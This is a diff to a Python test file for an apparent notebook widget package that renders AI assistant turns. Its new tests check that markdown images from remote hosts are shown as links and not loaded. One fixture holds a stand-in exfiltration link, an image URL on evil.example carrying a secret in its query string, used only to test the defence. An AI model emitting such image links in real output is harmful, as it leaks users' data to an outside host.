@@ -326,7 +326,7 @@ def test_a_finished_turn_is_static_and_its_widgets_close(comms: Comms,
     out = turn_handle.last
     assert set(out) == {"text/markdown", "text/plain"}  # no widget view left
     md = out["text/markdown"]
-    for part in ("<strong>world</strong>", "Second paragraph.", '<details class="pw-tool">',
+    for part in ("<strong>world</strong>", "Second paragraph.", '<details class="pw-tool"',
                  "echo &#36;HOME", "/root", "pw-card-tool pw-static", "Allowed",
                  "After the card.", "✓ 0.1 s"):
         assert part in md, part
@@ -428,3 +428,80 @@ def test_render_stream_is_the_parts_rendered_alone(parser: str,
             render_html(doc[cut:]) if cut < len(doc) else "")
 
     check()
+
+
+# -- remote images are not loaded, in every place a turn shows (issue 25) --------------------
+REMOTE = "A chart: ![chart](https://evil.example/c.png?d=secret) and ![ok](img/local.png)"
+
+
+def _live_html() -> str:
+    """Every rendered output and HTML value of the widgets still open: what the page shows."""
+    import ipywidgets as w
+
+    parts = []
+    for wid in list(_widget._instances.values()):
+        if isinstance(wid, w.Output):
+            parts += [o.get("data", {}).get("text/markdown", "") for o in wid.outputs]
+        elif isinstance(wid, w.HTML):
+            parts.append(wid.value)
+    return "\n".join(parts)
+
+
+def test_a_remote_image_loads_nowhere_a_turn_shows(comms: Comms,
+                                                   displays: list[Handle]) -> None:
+    from plan_widgets.widgets import ControlBar, WidgetTurnView
+    from plan_widgets.widgets.cards import card_html
+
+    def shown_safely(out: str) -> None:
+        assert "evil.example/c.png" in out  # the link is there ...
+        assert '<img src="https://' not in out  # ... the image is not loaded
+        assert "chart (image from evil.example, not loaded)" in out
+        assert '<img src="img/local.png"' in out  # the page's own server: loaded
+
+    async def main() -> Any:
+        s = _session()
+        view = WidgetTurnView(s, "go", ControlBar(s))
+        view.show()
+        view.text(REMOTE + "\n\nmore text\n\n")
+        assert view._stream is not None
+        view._stream.flush()
+        live_turn = _live_html()
+        plan = PlanDecision(f"# Plan\n\n{REMOTE}", "/tmp/p.md", "default")
+        view.decision(plan)
+        live_card = _live_html()
+        plan.approve(by="user")
+        await asyncio.sleep(0)
+        view.finished("0.1 s", True)
+        view.turn_done()
+        await asyncio.sleep(0)
+        return view, live_turn, live_card, card_html(plan)
+
+    view, live_turn, live_card, static_card = run(main())
+    shown_safely(live_turn)  # the live stream
+    shown_safely(live_card.replace(live_turn, ""))  # the live plan card
+    shown_safely(static_card)  # the card's static copy
+    assert view.static
+    static = displays[-1].last["text/markdown"]
+    assert static.count("not loaded") == 2 and "<img src=\"https://" not in static
+
+
+def test_remote_images_setting_reaches_the_render_path() -> None:
+    from traitlets.config import Config
+
+    from plan_widgets.ipython.magics import ClaudeMagics
+    from plan_widgets.render import engine
+    from plan_widgets.render.markdown import render_html
+
+    try:
+        m = ClaudeMagics(shell=None)  # %config ClaudeMagics.remote_images = [...]
+        m.remote_images = ["Example.com"]
+        assert '<img src="https://example.com/a.png"' in render_html(
+            "![a](https://example.com/a.png)")
+        m.remote_images = False
+        assert "<img" not in render_html("![a](https://example.com/a.png)")
+        c = Config()
+        c.ClaudeMagics.remote_images = True  # a config file's setting
+        ClaudeMagics(shell=None, config=c)
+        assert "<img" in render_html("![a](https://other.org/a.png)")
+    finally:
+        engine.allow_remote_images(False)
